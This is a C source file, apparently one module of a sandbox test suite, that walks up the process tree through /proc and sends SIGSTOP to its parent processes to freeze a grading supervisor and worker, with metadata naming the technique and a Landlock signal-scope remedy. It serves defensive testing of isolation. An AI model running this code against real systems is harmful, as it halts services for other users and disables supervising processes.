// SPDX-License-Identifier: MIT
/*
 * Goal:  the supervisor, and behind it the worker, stand still: no open is answered any more, no
 *        other student is served.
 * Means: SIGSTOP to our parent and to its parents, as far as they are our user's. The climb comes
 *        first, since a stopped supervisor would not let us read on; /proc/self/.. is a name that
 *        begins with our own folder.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

#define HEIGHT 8

static pid_t parent_of(pid_t pid)
{
	char path[64];
	int parent = 0;
	FILE *stat;

	snprintf(path, sizeof(path), "/proc/self/../%d/stat", pid);
	stat = fopen(path, "re");
	if (!stat)
		return 0;
	if (fscanf(stat, "%*d (%*[^)]) %*c %d", &parent) != 1)
		parent = 0;
	fclose(stat);
	return parent;
}

static enum claim run(const struct brief *b)
{
	pid_t chain[HEIGHT] = { getppid() };
	int height = chain[0] > 1, stopped = 0;

	while (height && height < HEIGHT && (chain[height] = parent_of(chain[height - 1])) > 1)
		height++; /* 1 is the instance's init, nobody's business */
	attempting(b);
	errno = ESRCH;
	while (height-- > 0)
		stopped += !kill(chain[height], SIGSTOP);
	return stopped ? CLAIM_DONE : denied("SIGSTOP to the parents");
}

const struct attack attack = {
	.effect = "the supervisor and the worker are stopped",
	.means = "SIGSTOP to the parent and its parents, which run under the same uid",
	.oracle = "bystander",
	.quick = true,
	.id = "UNS-11",
	.attack_id = "T1562.001, T1489, CWE-693",
	.remedy = "Landlock's signal scope (ABI 6); a filter on whom kill(2) may reach",
	.refs = (const char *const[]){ "kill(2)", "landlock(7), LANDLOCK_SCOPE_SIGNAL", NULL },
	.run = run,
};
